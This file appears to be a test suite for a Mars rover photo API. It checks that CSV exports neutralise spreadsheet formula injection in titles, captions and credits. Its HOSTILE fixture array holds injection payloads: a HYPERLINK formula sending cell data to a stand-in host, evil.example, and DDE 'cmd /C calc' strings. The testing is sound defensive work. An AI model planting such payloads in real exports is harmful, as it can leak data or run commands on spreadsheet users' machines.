import { afterAll, beforeAll, describe, expect, test, setDefaultTimeout } from 'bun:test'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buildIndex } from '../../index-builder/build-index'
import { loadStore } from '../../src/store/load-store'
import { csvField } from '../../src/query/export/csv-field'
import { makeTestApp, type TestApp } from '../setup/test-app'
import { parseCsv } from '../support/security-probes'

/**
 * CSV formula injection: feed texts (title, caption, credit, nasa_id, sample type, …) that a
 * spreadsheet would run as a formula are exported with a leading `'`; numbers stay numbers.
 */
setDefaultTimeout(60_000)
const scratch = mkdtempSync(join(tmpdir(), 'csv-formula-'))
afterAll(() => rmSync(scratch, { recursive: true, force: true }))

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1,2']
const m2020 = (i: number, over: Record<string, unknown>) => ({
  imageid: `NLF_0100_06758287${String(10 + i)}_276ECM_N0040218NCAM00503_01_295J`,
  sol: 100,
  sample_type: 'Full',
  date_taken_utc: '2021-05-30T03:12:00',
  date_taken_mars: 'Sol-00100M10:00:00.000',
  camera: { instrument: 'NAVCAM_LEFT' },
  image_files: { large: `https://mars.nasa.gov/mars2020-raw-images/pub/ods/surface/sol/00100/ids/edr/browse/ncam/NLF_0100_06758287${String(10 + i)}_276ECM_N0040218NCAM00503_01_295J01_1200.jpg` },
  extended: { sclk: '675828717.1' },
  ...over,
})

let t: TestApp
beforeAll(async () => {
  const dir = join(scratch, 'src')
  mkdirSync(dir, { recursive: true })
  const images = HOSTILE.map((h, i) => m2020(i, { title: h, caption: h, credit: h.slice(0, 100) }))
  writeFileSync(join(dir, 'hostile.json'), JSON.stringify({ images }))
  const out = join(scratch, 'index')
  await buildIndex({ out, sources: [join(dir, 'hostile.json')], progress: false })
  t = await makeTestApp({ store: await loadStore(out) })
})
afterAll(async () => {
  await t?.close()
})

describe('CSV export neutralises formula-leading text', () => {
  test('csvField: =, +, -, @, tab and CR leading texts get a leading quote mark; plain numbers and other texts are unchanged', () => {
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('+cmd')).toBe("'+cmd")
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe('"\'\r=1"')
    expect(csvField('=1,2')).toBe('"\'=1,2"')
    for (const plain of ['-4.5', '+3', '-1e5', '12', 'Mastcam', 'NASA/JPL-Caltech', '']) expect(csvField(plain)).toBe(plain)
  })

  test('hostile title, caption and credit from a feed are exported with a leading quote mark; ids, sols and coordinates stay numbers', async () => {
    const r = await t.request('/api/v2/photos/export?format=csv&fields=id,sol,title,caption,credit,telemetry')
    expect(r.status).toBe(200)
    const rows = parseCsv(await r.text())
    const head = rows[0]!
    const at = (n: string) => head.indexOf(n)
    expect(rows.length - 1).toBe(HOSTILE.length)
    const texts = new Set<string>()
    for (const row of rows.slice(1)) {
      for (const name of ['title', 'caption', 'credit']) {
        const v = row[at(name)]!
        texts.add(v)
        expect(v, `${name}: ${v}`).not.toMatch(/^[=+\-@\t\r]/)
        expect(v.startsWith("'")).toBe(true)
      }
      expect(row[at('id')]).toMatch(/^\d+$/)
      expect(row[at('sol')]).toBe('100')
    }
    expect(texts).toContain(`'${HOSTILE[0]}`)
    expect(texts).toContain("'-2+3")
    expect(texts).toContain("'=1,2")
  })

  test('negative numbers in numeric columns are written as numbers (no quote mark)', async () => {
    const real = await makeTestApp()
    try {
      const csv = await (await real.request('/api/v2/photos/export?format=csv&fields=id,telemetry,location&rovers=curiosity&max_rows=5000')).text()
      const rows = parseCsv(csv)
      // Every row starts id, rover, camera; the rest are the numeric columns asked for.
      const numeric = rows.slice(1).flatMap((row) => row.slice(3)).filter((v) => v !== '')
      expect(numeric.some((v) => v.startsWith('-'))).toBe(true)
      for (const v of numeric) expect(Number.isFinite(Number(v)), v).toBe(true)
    } finally {
      await real.close()
    }
  })
})
